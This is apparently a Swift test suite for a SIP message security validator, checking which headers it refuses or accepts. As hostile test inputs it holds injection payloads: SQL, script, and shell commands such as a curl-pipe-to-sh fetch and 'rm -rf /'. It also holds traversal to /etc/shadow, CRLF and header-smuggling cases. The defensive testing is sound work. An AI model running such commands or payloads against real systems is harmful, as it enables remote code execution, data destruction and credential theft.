import Foundation
import SIPBytes
import SIPParsing
import SIPSecurity
import Testing

func invite(headers: [String] = [], uri: String = "sip:bob@example.com", body: String = "") -> [UInt8] {
    var lines = [
        "INVITE \(uri) SIP/2.0",
        "Via: SIP/2.0/UDP 192.0.2.1:5060;branch=z9hG4bK776asdhds;rport",
        "Max-Forwards: 70",
        "To: Bob <sip:bob@example.com>",
        "From: Alice <sip:alice@example.com>;tag=1928301774",
        "Call-ID: a84b4c76e66710@pc33.example.com",
        "CSeq: 314159 INVITE",
        "Contact: <sip:alice@192.0.2.1:5060;transport=udp>",
        "User-Agent: Example Phone/1.2",
    ]
    // A header given by the test replaces the default of the same name.
    let given = Set(headers.map { $0.prefix { $0 != ":" } })
    lines = [lines[0]] + lines.dropFirst().filter { !given.contains($0.prefix { $0 != ":" }) } + headers
    lines.append("Content-Length: \(body.utf8.count)")
    return Array((lines.joined(separator: "\r\n") + "\r\n\r\n" + body).utf8)
}

/// The verdict's rule (nil = accepted); `parse` must succeed.
func violation(_ bytes: [UInt8], _ configuration: SecurityConfiguration = SecurityConfiguration(),
               fromPublicSide: Bool = true, overStream: Bool = false) throws -> SecurityRule? {
    let parser = try SIPParser()
    let validator = SecurityValidator(configuration: configuration)
    return try bytes.withPacketBytes { packet in
        let message = try parser.parse(packet)
        return validator.validate(message, fromPublicSide: fromPublicSide, overStream: overStream).rule
    }
}

@Suite struct SecurityValidatorTests {
    @Test func ordinaryInviteWithSDPPasses() throws {
        let sdp = "v=0\r\no=- 1 1 IN IP4 192.0.2.1\r\ns=-\r\nc=IN IP4 192.0.2.1\r\nt=0 0\r\nm=audio 4000 RTP/AVP 0\r\na=rtpmap:0 PCMU/8000\r\n"
        #expect(try violation(invite(headers: ["Content-Type: application/sdp", "Route: <sip:p1.example.com;lr>",
                                                "Subject: Lunch at O'Brien's?", "Supported: 100rel, timer"], body: sdp)) == nil)
    }

    /// Each rule: a hostile message is refused by that rule, and a benign near miss passes.
    @Test(arguments: [
        ("From: \"x' or '1'='1\" <sip:a@example.com>;tag=1", "From: \"Rock 'n roll\" <sip:a@example.com>;tag=1", SecurityRule.sqlInjection),
        ("X-Note: 1 union select password from users", "X-Note: union of selected trunks", .sqlInjection),
        ("Subject: '; DROP TABLE subscribers;--", "Subject: drop the table reservation", .sqlInjection),
        ("Subject: <script>alert(1)</script>", "Subject: <sip:conference@example.com>", .scriptInjection),
        ("X-Link: javascript:steal()", "X-Link: java script notes", .scriptInjection),
        ("Subject: <img src=x onerror=alert(1)>", "Subject: image of error", .scriptInjection),
        ("X-Cmd: $(curl http://x.example/p|sh)", "X-Cmd: costs $5 (approx)", .shellInjection),
        ("X-Cmd: a; rm -rf /", "X-Cmd: a;rmx=1", .shellInjection),
        ("X-Cmd: true && reboot", "X-Cmd: true & false", .shellInjection),
        ("X-Path: ../../etc/shadow", "X-Path: ./local/file.wav", .pathTraversal),
        ("X-Path: ..%2f..%2fetc", "X-Path: 100%25 sure", .pathTraversal),
        ("X-Header: a%0d%0aInjected: yes", "X-Header: a%20b%2fc", .crlfInjection),
    ])
    func injectionRules(_ hostile: String, _ benign: String, _ rule: SecurityRule) throws {
        #expect(try violation(invite(headers: [hostile])) == rule, "\(hostile)")
        #expect(try violation(invite(headers: [benign])) == nil, "\(benign)")
    }

    @Test func requestURIIsScannedToo() throws {
        #expect(try violation(invite(uri: "sip:..%2f..%2fadmin@example.com")) == .pathTraversal)
        #expect(try violation(invite(uri: "sip:%27%20or%201@example.com")) == nil)  // escaped, never decoded here
    }

    @Test func framingThatParsersReadDifferentlyIsRefused() throws {
        // RFC 3261 HCOLON: a space before the colon is valid SIP, refused only where a parser that does not trim it
        // would frame or route differently (the configured lists).
        #expect(try violation(invite(headers: ["Subject : x"])) == nil)
        #expect(try violation(invite(headers: ["Subject : x"]), overStream: true) == nil)
        #expect(try violation(invite(headers: ["Subject: x"])) == nil)
        // An equal second Content-Length parses, but a downstream parser may take either: refuse.
        #expect(try violation(invite(headers: ["Content-Length: 0"])) == .headerSmuggling)
        let folded = Array("OPTIONS sip:a@example.com SIP/2.0\r\nVia: SIP/2.0/UDP h;branch=z9hG4bK1\r\nFrom: <sip:b@example.com>;tag=1\r\nTo: <sip:a@example.com>\r\nCall-ID: c\r\nCSeq: 1 OPTIONS\r\nContent-Length:\r\n 0\r\n\r\n".utf8)
        #expect(try violation(folded) == .headerSmuggling)
    }

    /// Each default entry of `no_space_before_colon` refuses its header spaced, on UDP and on streams; each is
    /// accepted unspaced. The message is built by hand so that only the line under test is spaced.
    @Test(arguments: [
        ("Content-Length", "Content-Length : 0"), ("Via", "Via : SIP/2.0/UDP 192.0.2.1:5060;branch=z9hG4bK776asdhds"),
        ("Route", "Route : <sip:p1.example.com;lr>"), ("Call-ID", "Call-ID\t: a84b4c76e66710@pc33.example.com"),
        ("CSeq", "CSeq  : 314159 INVITE"), ("Max-Forwards", "Max-Forwards : 70"), ("v", "v : SIP/2.0/UDP 192.0.2.1;branch=z9hG4bK2"),
        ("l", "l : 0"), ("i", "i : compact@example.com"),
    ])
    func spaceBeforeColonOnFramingAndRoutingHeadersIsRefused(_ name: String, _ line: String) throws {
        let spaced = message(replacing: name, with: line)
        #expect(try violation(spaced) == .headerSmuggling, "\(line)")
        #expect(try violation(spaced, overStream: true) == .headerSmuggling, "\(line) over a stream")
        var relaxed = SecurityConfiguration()
        relaxed.noSpaceBeforeColon = []
        #expect(try violation(spaced, relaxed) == nil, "\(line) with the list empty")
    }

    @Test func contentTypeIsRefusedSpacedOnStreamsOnly() throws {
        let spaced = invite(headers: ["Content-Type : application/sdp"])
        #expect(try violation(spaced) == nil)
        #expect(try violation(spaced, overStream: true) == .headerSmuggling)
        #expect(try violation(invite(headers: ["c : application/sdp"]), overStream: true) == .headerSmuggling)
        #expect(try violation(invite(headers: ["Content-Type: application/sdp"]), overStream: true) == nil)
        var configuration = SecurityConfiguration()
        configuration.noSpaceBeforeColonOnStreams = []
        #expect(try violation(spaced, configuration, overStream: true) == nil)
        // The lists are configurable both ways: a header added is refused spaced, unspaced it still passes.
        configuration.noSpaceBeforeColon = [.subject]
        #expect(try violation(invite(headers: ["Subject : x"]), configuration) == .headerSmuggling)
        #expect(try violation(invite(headers: ["s : x"]), configuration, overStream: true) == .headerSmuggling)
        #expect(try violation(invite(headers: ["Subject: x"]), configuration) == nil)
        #expect(try violation(message(replacing: "Via", with: "Via : SIP/2.0/UDP h;branch=z9hG4bK1"), configuration) == nil)
        // The rule off: nothing spaced is refused.
        var off = SecurityConfiguration()
        off.actions[.headerSmuggling] = .allow
        #expect(try violation(message(replacing: "Content-Length", with: "Content-Length : 0"), off, overStream: true) == nil)
    }

    /// A plain INVITE with the line of header `name` (full name, or a compact form standing for it) replaced by
    /// `line`.
    func message(replacing name: String, with line: String) -> [UInt8] {
        let full = ["v": "Via", "l": "Content-Length", "i": "Call-ID"][name] ?? name
        let text = String(decoding: invite(headers: ["Route: <sip:p1.example.com;lr>"]), as: UTF8.self)
        let lines = text.components(separatedBy: "\r\n").map { $0.hasPrefix(full + ":") ? line : $0 }
        return Array(lines.joined(separator: "\r\n").utf8)
    }

    @Test func quotedControlCharactersAreRefusedByPolicy() throws {
        #expect(try violation(invite(headers: ["X-Name: \"a\\\u{0}b\""])) == .controlCharacter)
        #expect(try violation(invite(headers: ["X-Name: \"a\\\"b\""])) == nil)
    }

    @Test func utf8MustBeValid() throws {
        func withBytes(_ extra: [UInt8]) -> [UInt8] {
            var bytes = invite(headers: ["Subject: X"])
            let marker = bytes.firstRange(of: Array("Subject: X".utf8))!.upperBound
            bytes.insert(contentsOf: extra, at: marker)
            return bytes
        }
        #expect(try violation(withBytes(Array("é日本🎉".utf8))) == nil)
        #expect(try violation(withBytes([0xC0, 0xAF])) == .invalidUTF8)  // overlong '/'
        #expect(try violation(withBytes([0xE0, 0x80, 0xAF])) == .invalidUTF8)  // overlong 3-byte
        #expect(try violation(withBytes([0xED, 0xA0, 0x80])) == .invalidUTF8)  // surrogate
        #expect(try violation(withBytes([0xF4, 0x90, 0x80, 0x80])) == .invalidUTF8)  // above U+10FFFF
        #expect(try violation(withBytes([0x80])) == .invalidUTF8)  // stray continuation
        #expect(try violation(withBytes([0xE6, 0x97])) == .invalidUTF8)  // truncated
    }

    @Test func limitsOnViasAndURIs() throws {
        var configuration = SecurityConfiguration()
        configuration.maxViaHops = 3
        let threeVias = ["Via: SIP/2.0/UDP a.example;branch=z9hG4bK1, SIP/2.0/UDP b.example;branch=z9hG4bK2",
                         "Via: SIP/2.0/UDP c.example;branch=z9hG4bK3"]
        #expect(try violation(invite(headers: threeVias), configuration) == nil)
        #expect(try violation(invite(headers: threeVias + ["Via: SIP/2.0/UDP d.example;branch=z9hG4bK4"]), configuration) == .tooManyVias)
        configuration.maxURILength = 30
        #expect(try violation(invite(uri: "sip:bob@example.com"), configuration) == nil)
        #expect(try violation(invite(uri: "sip:" + String(repeating: "b", count: 30) + "@example.com"), configuration) == .uriTooLong)
    }

    @Test func allowedDomainsAndBlockedAgents() throws {
        var configuration = SecurityConfiguration()
        configuration.allowedDomains = ["Example.com"]
        #expect(try violation(invite(uri: "sip:bob@example.com"), configuration) == nil)
        #expect(try violation(invite(uri: "sip:bob@pbx.EXAMPLE.com"), configuration) == nil)
        #expect(try violation(invite(uri: "sip:bob@badexample.com"), configuration) == .domainNotAllowed)
        #expect(try violation(invite(uri: "sip:bob@example.org"), configuration) == .domainNotAllowed)
        // Requests from the core go to registered clients, whatever their host.
        #expect(try violation(invite(uri: "sip:bob@198.51.100.9"), configuration, fromPublicSide: false) == nil)
        #expect(try violation(invite(headers: ["User-Agent: friendly-scanner"])) == .blockedUserAgent)
        #expect(try violation(invite(headers: ["User-Agent: Friendly Phone"])) == nil)
    }

    /// Blocked agents are a plain substring search without case (C, SIMD prefilter), whatever the list holds: the
    /// verdict must equal a naive search, also for lists that do not fit the C table (empty entry, over 64).
    @Test func blockedAgentsMatchANaiveSubstringSearch() throws {
        var rng = SystemRandomNumberGenerator()
        var seed = UInt64.random(in: 0...UInt64.max, using: &rng)
        func next(_ range: ClosedRange<Int>) -> Int {
            seed = seed &* 6364136223846793005 &+ 1442695040888963407
            return range.lowerBound + Int((seed >> 33) % UInt64(range.count))
        }
        let alphabet = Array("aAbBsSiI-/. 09xX")
        func word(_ length: ClosedRange<Int>) -> String { String((0..<next(length)).map { _ in alphabet[next(0...alphabet.count - 1)] }) }
        var configuration = SecurityConfiguration()
        for rule in [SecurityRule.sqlInjection, .scriptInjection, .shellInjection, .pathTraversal, .crlfInjection] {
            configuration.actions[rule] = .allow
        }
        let parser = try SIPParser()
        for round in 0..<150 {
            var agents = (0..<next(1...6)).map { _ in word(1...4) }
            if round % 10 == 3 { agents.append("") }  // matches every User-Agent: the plain loop
            if round % 10 == 7 { agents += (0..<70).map { "zz\($0)" } }  // more than a table holds
            if round % 10 == 5 { agents = SecurityConfiguration().blockedUserAgents }
            configuration.blockedUserAgents = agents
            let validator = SecurityValidator(configuration: configuration)
            let needles = agents.map { Array($0.lowercased().utf8) }
            for _ in 0..<40 {
                let value = "a" + word(0...40) + "z"
                let haystack = Array(value.lowercased().utf8)
                let expected = needles.contains { needle in
                    needle.isEmpty || (haystack.count >= needle.count && (0...haystack.count - needle.count).contains { haystack[$0..<$0 + needle.count].elementsEqual(needle) })
                }
                let rule = try invite(headers: ["User-Agent: \(value)"]).withPacketBytes { packet in
                    validator.validate(try parser.parse(packet), fromPublicSide: true).rule
                }
                #expect(rule == (expected ? .blockedUserAgent : nil), "agents \(agents) value \(value.debugDescription)")
            }
        }
    }

    @Test func actionsArePerRule() throws {
        var configuration = SecurityConfiguration()
        let validator = SecurityValidator(configuration: configuration)
        #expect(validator.verdict(for: .sqlInjection) == .reject(status: 403, reason: StaticStringBox("Forbidden"), rule: .sqlInjection))
        #expect(validator.verdict(for: .blockedUserAgent) == .drop(.blockedUserAgent))
        #expect(validator.verdict(for: .uriTooLong) == .reject(status: 414, reason: StaticStringBox("Request-URI Too Long"), rule: .uriTooLong))
        configuration.actions[.sqlInjection] = .drop
        configuration.actions[.shellInjection] = .allow
        let custom = SecurityValidator(configuration: configuration)
        #expect(custom.verdict(for: .sqlInjection) == .drop(.sqlInjection))
        #expect(try violation(invite(headers: ["X-Cmd: $(id)"]), configuration) == nil)
    }

    static let corpus = URL(fileURLWithPath: #filePath).deletingLastPathComponent()
        .appendingPathComponent("../SIPParsingTests/Corpus/RFC4475").standardized

    /// The RFC 4475 messages the RFC calls valid, with their bytes.
    static func validRFC4475Messages() throws -> [(String, [UInt8])] {
        let manifest = try String(contentsOf: corpus.appendingPathComponent("manifest.tsv"), encoding: .utf8)
        var valid: [(String, [UInt8])] = []
        for line in manifest.split(separator: "\n").dropFirst() {
            let fields: [Substring] = line.split(separator: "\t")
            guard fields[2] == "valid" else { continue }
            valid.append((String(fields[0]), Array(try Data(contentsOf: corpus.appendingPathComponent("\(fields[0]).sip")))))
        }
        return valid
    }

    /// No false positives on the RFC 4475 messages that are valid SIP: only the rules the edge deliberately
    /// tightens refuse them (space before the colon of Content-Length and Via, quoted NUL, 34 Vias), the same on
    /// UDP and on streams, and with those off every one passes.
    @Test func rfc4475ValidMessagesPassTheInjectionRules() throws {
        let valid = try Self.validRFC4475Messages()
        #expect(valid.count == 27)
        let tightened: [String: SecurityRule] = ["wsinv": .headerSmuggling, "intmeth": .controlCharacter,
                                                 "longreq": .tooManyVias]
        var relaxed = SecurityConfiguration()
        for rule in tightened.values { relaxed.actions[rule] = .allow }
        for (name, bytes) in valid {
            #expect(try violation(bytes) == tightened[name], "\(name)")
            #expect(try violation(bytes, overStream: true) == tightened[name], "\(name) over a stream")
            #expect(try violation(bytes, relaxed) == nil, "\(name) with the tightened rules off")
        }
        // wsinv spaces To, From, Subject too: with both lists empty it passes with header_smuggling still on.
        var noLists = SecurityConfiguration()
        noLists.noSpaceBeforeColon = []
        noLists.noSpaceBeforeColonOnStreams = []
        let wsinv = try #require(valid.first { $0.0 == "wsinv" }).1
        #expect(try violation(wsinv, noLists, overStream: true) == nil)
    }

    /// Which valid RFC 4475 messages each default entry refuses on its own (the table in the README): Content-Length
    /// refuses wsinv, Via refuses wsinv and longreq (whose 34 Vias are refused first anyway), the rest none.
    @Test func rfc4475MessagesEachDefaultEntryRefuses() throws {
        let valid = try Self.validRFC4475Messages()
        let expected: [HeaderKind: Set<String>] = [.contentLength: ["wsinv"], .via: ["wsinv", "longreq"], .route: [],
                                                   .callID: [], .cseq: [], .maxForwards: [], .contentType: []]
        let defaults = SecurityConfiguration()
        #expect(Set(defaults.noSpaceBeforeColon + defaults.noSpaceBeforeColonOnStreams) == Set(expected.keys))
        for kind in defaults.noSpaceBeforeColon + defaults.noSpaceBeforeColonOnStreams {
            var alone = SecurityConfiguration()
            alone.actions[.tooManyVias] = .allow
            alone.actions[.controlCharacter] = .allow
            let onStreams = defaults.noSpaceBeforeColonOnStreams.contains(kind)
            alone.noSpaceBeforeColon = onStreams ? [] : [kind]
            alone.noSpaceBeforeColonOnStreams = onStreams ? [kind] : []
            var refused = Set<String>()
            for (name, bytes) in valid where try violation(bytes, alone, overStream: true) == .headerSmuggling {
                refused.insert(name)
            }
            #expect(refused == expected[kind], "\(kind)")
        }
    }

    @Test func parseErrorsMapTo400Or505() {
        #expect(SIPParseError.Code.unsupportedSIPVersion.responseStatus == 505)
        #expect(SIPParseError.Code.invalidVia.responseStatus == 400)
    }
}
